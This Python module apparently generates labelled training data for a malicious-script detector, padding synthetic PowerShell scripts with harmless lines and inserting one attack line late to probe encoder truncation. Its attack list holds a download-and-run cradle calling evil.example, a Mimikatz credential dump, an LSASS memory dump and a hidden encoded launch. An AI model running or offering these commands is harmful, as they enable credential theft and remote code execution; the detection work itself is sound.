"""Scripts of 60,000 characters, of which one line at 50,000 is an attack or none is."""

from __future__ import annotations

from sftsec_core.api.domain import Example

LINES = (
    "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 0 }",
    "$config = Import-Csv .\\settings.csv",
    "foreach ($user in $users) { Set-User $user -Department $dep }",
    "if (Test-Path $log) { Remove-Item $log }",
    "# update the inventory of printers",
    "$total += $item.Size / 1MB",
    "Restart-Service -Name Spooler",
)
ATTACKS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
    "Invoke-Mimikatz -DumpCreds -ComputerName dc01",
    "rundll32 comsvcs.dll, MiniDump 624 lsass.dmp full",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC",
)
PLACE, LENGTH = 50_000, 60_000


def script(number: int, attack: str | None, length: int = LENGTH, place: int = PLACE) -> str:
    """Harmless lines, and one of an attack from the place on."""
    lines: list[str] = []
    size = 0
    while size < length:
        if attack and size >= place:
            lines.append(attack)
            attack = None
        else:
            lines.append(LINES[(number * 3 + len(lines) * len(lines)) % len(LINES)])
        size += len(lines[-1]) + 1
    return "\n".join(lines)


def training_scripts() -> list[Example]:
    """Short ones, and some that are longer than what an encoder reads of them."""
    shorts = [
        Example.of_text(f"s{i}", script(i, ATTACKS[i // 2 % 4] if i % 2 else None, 150, 60), label)
        for i in range(24)
        for label in [("benign", "malicious")[i % 2]]
    ]
    longs = [
        Example.of_text(
            f"l{i}", script(i, ATTACKS[i // 2 % 4] if i % 2 else None, 12_000, 9_000), label
        )
        for i in range(12)
        for label in [("benign", "malicious")[i % 2]]
    ]
    return [*shorts, *longs]
